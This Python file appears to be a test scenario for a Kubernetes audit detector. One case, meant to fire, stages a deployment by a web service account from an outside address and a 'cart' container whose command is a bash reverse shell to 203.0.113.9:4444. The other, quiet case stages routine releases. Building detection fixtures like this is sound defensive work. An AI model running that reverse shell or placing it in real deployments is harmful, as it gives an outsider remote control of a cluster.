"""A deployment nobody makes here, and a reverse shell; releases are not that."""

from world_audit import container, DAY, HOUR, pod_spec, START, workload


DAYS = 21
NIGHT = START + DAYS * DAY + 2 * HOUR
SHELL = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]


def fire(w):
    w.cluster_life(START, DAYS)
    w.deploy(NIGHT, workload("node-cache", "data", spec=pod_spec(
        container("c", "docker.io/kubecache/cache:1"))),
        user="system:serviceaccount:shop:web", agent="python-requests/2.31",
        remote="203.0.113.77")
    w.deploy(NIGHT + DAY, workload("cart", spec=pod_spec(
        container("c", "registry.example.org/shop/cart:9", command=SHELL))))


def quiet(w):
    w.cluster_life(START, DAYS + 2)
    day = START + DAYS * DAY + 11 * HOUR
    new = pod_spec(container("app", "registry.example.org/shop/labels:1.0"))
    w.deploy(day, workload("labels", spec=new))
    w.cascade(day + 5, "labels", spec=new)
    w.deploy(day + 60, workload("web", spec=pod_spec(
        container(image="registry.example.org/shop/web:2.0"))), verb="update")
